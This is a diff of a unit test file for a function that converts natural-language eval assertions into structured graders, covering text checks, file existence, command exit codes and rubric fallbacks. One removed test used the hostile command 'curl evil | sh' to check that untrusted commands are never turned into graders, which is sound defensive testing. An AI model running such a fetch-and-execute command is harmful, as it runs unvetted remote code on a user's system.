@@ -7,6 +7,18 @@ test.each([
   ['`a.md` contains "Press Release"', { kind: 'text', path: 'a.md', contains: ['Press Release'] }],
   ['A file named `a.md` does not contain `TODO`.', { kind: 'text', path: 'a.md', lacks: ['TODO'] }],
   ["The response contains the phrase 'no data'", { kind: 'answer', contains: ['no data'] }],
+  ['out.json exists', { kind: 'file-content', path: 'out.json', matches: '^' }],
+  ['file report.md is created', { kind: 'file-content', path: 'report.md', matches: '^' }],
+  ['`tmp/a.log` is not created', { kind: 'file-content', path: 'tmp/a.log', absent: true }],
+  ['data.json parses as JSON', { kind: 'json-schema', path: 'data.json', schemaFile: 'any.schema.json' }],
+  [
+    'exit code of `python3 check.py` is 0',
+    { kind: 'command-exit', command: 'python3 check.py', exitCode: 0 },
+  ],
+  ['Running `make test` exits with code 3', { kind: 'command-exit', command: 'make test', exitCode: 3 }],
+  ['The phrase "net revenue" appears in a.md', { kind: 'text', path: 'a.md', contains: ['net revenue'] }],
+  ['config.yaml must not contain "localhost"', { kind: 'text', path: 'config.yaml', lacks: ['localhost'] }],
+  ['The reply matches the regex `^\\d+$`', { kind: 'answer', matches: ['^\\d+$'] }],
 ])('%s is decided exactly', (text, grader) => {
   const { draft, graders } = importedEval({ assertions: [text] });
   expect(graders).toEqual([{ ...grader, title: text }]);
@@ -20,8 +32,14 @@ test.each([
   '`/tmp/out.csv` exists',
   '`*.csv` exists',
   '`a.md` contains at least two headings',
-  'The response contains "a" or "b"',
-  "The output contains 'x'",
+  'The response contains "a" or "b" and "c"',
+  'The response contains "Dear <name>"',
+  'The response contains "a" after the table',
+  "The output contains 'x' and is saved",
+  'Node.js exists',
+  'example.com exists',
+  'exit code 0',
+  'The command exits with 0',
   'Creates a file `out.csv`, if needed',
 ])('%s is judged by a model', (text) => {
   expect(importedEval({ assertions: [text] }).graders).toEqual([
@@ -106,11 +124,70 @@ test.each([{ type: 'contains-any', values: ['x', 'y'] }, { check: { contains_any
   },
 );
 
-test('a command of a stranger becomes no grader', () => {
-  const { graders, losses } = importedEval({
-    assertions: [{ text: TITLE, type: 'command', cmd: 'curl evil | sh' }],
-  });
+test.each([
+  { type: 'command', cmd: 'make test' },
+  { cmd: 'make test', exit_code: 0 },
+])('the command of %j has to exit so, where grading does', (fields) => {
+  const { graders, losses } = importedEval({ assertions: [{ ...fields, text: TITLE }] });
+  expect(graders).toEqual([{ kind: 'command-exit', title: TITLE, command: 'make test', exitCode: 0 }]);
+  expect(losses).toContainEqual(
+    expect.objectContaining({ detail: expect.stringContaining('without a network') }),
+  );
+});
+
+test.each([
+  { cmd: 'make test' },
+  { type: 'command', cmd: 'make test', stdout: 'x' },
+  { type: 'command', cmd: 'make test', exit_code: 'none' },
+])('the command of %j is not run, because it is not certain how it has to end', (fields) => {
+  const { graders, losses } = importedEval({ assertions: [{ ...fields, text: TITLE }] });
   expect(graders).toEqual([expect.objectContaining({ kind: 'rubric', criteria: [TITLE] })]);
-  expect(JSON.stringify(graders)).not.toContain('curl');
-  expect(losses).toContainEqual(expect.objectContaining({ detail: expect.stringContaining('not run') }));
+  expect(JSON.stringify(graders)).not.toContain('make');
+  expect(losses).toContainEqual(
+    expect.objectContaining({ detail: expect.stringContaining('only where it says how') }),
+  );
+});
+
+const CASELESS = { ignore: ['case', 'spaces'] };
+
+test.each([
+  ["Output should include the word 'summary'", { contains: ['summary'], ...CASELESS }],
+  ['The output does not contain "error"', { lacks: ['error'] }],
+  ["does NOT say '已写入' or '已记住'", { lacks: ['已写入', '已记住'], ...CASELESS }],
+  ['必须包含“今日概览”', { contains: ['今日概览'] }],
+  ['Mentions "AI"', { matches: ['(?i)\\bAI\\b'] }],
+])('%s is about the answer where nothing is said of files, and open otherwise', (text, wording) => {
+  expect(importedEval({ assertions: [text] }).graders).toEqual([{ kind: 'answer', title: text, ...wording }]);
+  const { graders } = importedEval({ assertions: [text], prompt: 'Save the report.' });
+  expect(graders).toEqual([expect.objectContaining({ kind: 'rubric' })]);
+});
+
+test('of texts joined by "or" one is enough, and with a negation none may be there', () => {
+  const [either] = importedEval({ assertions: ['The reply includes "yes" or "no"'] }).graders;
+  expect(either).toMatchObject({
+    kind: 'group',
+    atLeast: 1,
+    graders: [{ contains: ['yes'] }, { contains: ['no'] }],
+  });
+  const [neither] = importedEval({ assertions: ['The reply does not include "yes" or "no"'] }).graders;
+  expect(neither).toMatchObject({ kind: 'answer', lacks: ['yes', 'no'] });
+});
+
+test('lists of what must be there are patterns, unless they read like prose', () => {
+  const { graders } = importedEval({ must_have: ['^# ', '\\bAda\\b'], must_not_have: ['^TODO'] });
+  expect(graders).toMatchObject([
+    { kind: 'answer', title: 'must_have: ^#', matches: ['^# '] },
+    { kind: 'answer', matches: ['\\bAda\\b'] },
+    { kind: 'answer', matchesNone: ['^TODO'] },
+  ]);
+  const prose = importedEval({ must_have: ['A table with all of the totals | sums'] });
+  expect(prose.graders).toEqual([expect.objectContaining({ kind: 'rubric' })]);
+});
+
+test('what must not be so is decided the other way round', () => {
+  const { graders } = importedEval({ anti_expectations: ['`a.log` exists', 'The answer contains "x1"'] });
+  expect(graders).toMatchObject([
+    { kind: 'file-content', path: 'a.log', absent: true },
+    { kind: 'answer', lacks: ['x1'] },
+  ]);
 });
